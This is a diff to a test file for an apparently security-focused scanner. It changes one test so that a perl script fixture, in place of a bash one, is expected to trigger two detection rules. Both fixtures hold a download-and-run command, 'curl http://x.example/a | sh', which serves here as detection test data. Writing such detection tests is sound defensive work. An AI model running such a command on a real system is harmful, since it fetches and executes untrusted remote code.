@@ -54,7 +54,7 @@ test('a program or script inside a container is told by its place', () => {
 });
 
 test('a script that runs what it downloads is told', () => {
-  expect(scanBytes(utf8('#!/usr/bin/env bash\ncurl http://x.example/a | sh\n')).rules).toEqual(['MDL-EXE-004', 'MDL-EXE-005']);
+  expect(scanBytes(utf8('#!/usr/bin/env perl\nsystem("curl http://x.example/a | sh");\n')).rules).toEqual(['MDL-EXE-004', 'MDL-EXE-005']);
 });
 
 test('a pickle behind letters of a program stays a pickle', () => {
